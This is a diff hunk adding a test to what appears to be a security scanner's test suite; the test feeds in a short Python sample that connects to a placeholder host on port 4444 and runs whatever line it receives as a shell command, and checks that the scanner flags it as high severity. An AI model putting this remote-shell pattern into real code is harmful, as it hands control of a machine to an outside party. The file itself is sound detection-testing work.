@@ -247,3 +247,13 @@ def serve():
     other.send(subprocess.getoutput(line).encode())
 """
     assert scan(RULE, text) == [(8, "HIGH", "HIGH", "run")]
+
+
+def test_streams_of_asyncio(scan):
+    text = """import asyncio
+async def main():
+    reader, writer = await asyncio.open_connection("c.example.test", 4444)
+    line = (await reader.readline()).decode()
+    await asyncio.create_subprocess_shell(line)
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
